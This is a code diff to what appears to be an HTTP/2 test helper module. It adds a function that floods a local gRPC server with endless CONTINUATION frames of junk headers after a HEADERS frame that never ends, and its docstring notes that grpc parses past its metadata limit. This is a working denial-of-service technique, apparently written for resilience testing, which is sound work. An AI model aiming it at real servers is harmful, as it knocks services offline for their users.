@@ -8,6 +8,8 @@ import asyncio
 import contextlib
 import socket
 import struct
+import threading
+from collections.abc import Callable
 
 _DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
 _MAX_FRAME = 16_384  # HTTP/2's default SETTINGS_MAX_FRAME_SIZE
@@ -142,3 +144,37 @@ class NonReadingClient:
             self.windows[stream] -= room
             self.sent += room
         await self.writer.drain()
+
+
+_CONTINUATION = 9
+
+
+def endless_header_block(port: int, method: str, stop: Callable[[], bool]) -> None:
+    """Open a gRPC call whose header block never ends: a HEADERS frame without END_HEADERS, then
+    CONTINUATION frames of junk headers as fast as the socket takes them, until `stop()` (blocking:
+    run it on a thread). grpc keeps parsing such a block, past its metadata limit too."""
+    head = b"".join(
+        _literal(name, value)
+        for name, value in [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", method),
+            (":authority", "x"),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        ]
+    )
+    junk = b"".join(_frame(_CONTINUATION, 0, 1, _literal(f"x-pad-{i}", "v" * 100)) for i in range(100))
+    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port)) as sock:
+        sock.sendall(
+            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0) + _frame(_HEADERS, 0, 1, head)
+        )
+        threading.Thread(target=_discard, args=(sock,), daemon=True).start()  # what the server sends
+        while not stop():
+            sock.sendall(junk)
+
+
+def _discard(sock: socket.socket) -> None:
+    with contextlib.suppress(OSError):
+        while sock.recv(65536):
+            pass
